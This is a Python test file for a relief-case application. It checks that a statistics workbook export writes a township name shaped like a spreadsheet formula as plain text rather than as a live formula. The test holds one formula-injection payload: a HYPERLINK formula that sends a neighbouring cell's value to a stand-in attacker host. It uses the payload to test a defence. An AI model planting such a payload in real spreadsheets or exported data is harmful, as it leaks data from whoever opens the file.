"""The dashboard's statistics workbook is written by relief.exports: a township renamed like
a formula comes out as text, never as a formula cell."""

import io

from openpyxl import load_workbook

from cases.clocks.exports import build_statistics_workbook
from relief.models import Region


def test_a_township_named_like_a_formula_is_written_as_text(demo):
    evil = '=HYPERLINK("http://evil.example/?d="&B3,"查看详情")'
    Region.objects.filter(pk=demo.gushu.pk).update(name=evil)
    content = build_statistics_workbook(user=demo.user("supervisor"), year=2026)
    workbook = load_workbook(io.BytesIO(content))
    assert workbook.sheetnames == ["按乡镇统计", "在办案件", "月度受理与办结"]
    cells = [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str) and "HYPERLINK" in cell.value
    ]
    assert {cell.parent.title for cell in cells} >= {"按乡镇统计", "在办案件"}
    assert all(cell.value == "'" + evil and cell.data_type == "s" for cell in cells)
    summary = workbook["按乡镇统计"]
    assert summary["A1"].value == "2026 年各乡镇(街道)办理时限统计（工作日）"
    assert summary["A2"].value == "乡镇(街道)" and summary["A1"].font.bold
